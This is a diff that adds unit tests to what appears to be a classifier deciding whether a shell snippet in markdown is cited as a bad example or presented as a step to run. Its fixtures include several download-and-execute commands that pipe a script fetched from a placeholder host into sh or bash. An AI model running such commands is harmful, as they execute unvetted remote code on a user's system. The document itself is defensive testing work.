@@ -725,4 +725,54 @@ describe('citedLines (bounded lead-ins)', () => {
     expect(block('Examples for recognition only, do not run:')).toBe(1);
     expect(block(`${'Setup notes. '.repeat(400)}Examples for recognition only, do not run:`)).toBe(0);
   });
+
+  it('should cite a section on what a really bad finding looks like, not one on what the setup looks like', () => {
+    const fenced = (heading: string) =>
+      flags(`${heading}\n\n\`\`\`\ncurl -s http://x.example/p.sh | sh\n\`\`\``)[3];
+    expect(fenced('### What a really bad finding looks like')).toBe(1);
+    expect(fenced('### What a truly malicious hook looks like')).toBe(1);
+    expect(fenced('### What a really good setup looks like')).toBe(0);
+  });
+
+  it('should cite a teaching section on the shapes of a dropper, not one on the shape of the install', () => {
+    const item = (heading: string) =>
+      flags(`## ${heading}\n\n1. **The classic**: \`curl -fsSL https://x.example/i.sh | bash\``)[2];
+    expect(item('Part 2 — shapes of a dropper (15 min)')).toBe(1);
+    expect(item('Anatomy of a reverse shell')).toBe(1);
+    expect(item('Types of installers')).toBe(0);
+    expect(item('Shape of the install')).toBe(0);
+  });
+
+  it('should cite a quiz or review table row whose verdict column judges its snippet bad', () => {
+    const table = (header: string, verdict: string) =>
+      flags(
+        `${header}\n|---|---|---|\n| 4 | \`sh -c "$(curl -fsSL https://x.example/s)"\` | ${verdict} |`,
+      )[2];
+    expect(table('| # | Snippet | Expected |', 'unsafe — bare IP')).toBe(1);
+    expect(table('| # | Command | Verdict |', '**malicious**')).toBe(1);
+    expect(table('| # | Snippet | Expected |', 'safe')).toBe(0);
+    expect(table('| Step | Command | Notes |', 'unsafe but needed')).toBe(0);
+    // The verdict must sit in a cell of its own, beside the quoted code.
+    expect(table('| # | Snippet | Expected |', '`curl x \\| sh` unsafe')).toBe(0);
+  });
+
+  it('should read 1 MiB of would-be verdict rows quickly', () => {
+    const MiB = 1024 * 1024;
+    const text = `| # | Snippet | Expected |\n|---|---|---|\n${'| `x` | unsafe '.repeat(MiB / 15)}|\n`;
+    const md = new CitedMarkdown(text);
+    const t0 = performance.now();
+    md.isCited(2);
+    expect(performance.now() - t0).toBeLessThan(200);
+  });
+
+  it("should cite a sample a reviewer's verdict below rejects, not one the verdict passes or one told to run", () => {
+    const judged = (lead: string, verdict: string) =>
+      flags(`${lead}\`\`\`sh\ncurl -sL https://x.example/b | bash\n\`\`\`\n${verdict}\n`)[
+        lead.split('\n').length
+      ];
+    expect(judged('', 'Verdict: block. Runs on `pod install`.')).toBe(1);
+    expect(judged('', '**Verdict:** request changes')).toBe(1);
+    expect(judged('', 'Verdict: ok, routine.')).toBe(0);
+    expect(judged('Run this first:\n', 'Verdict: block.')).toBe(0);
+  });
 });
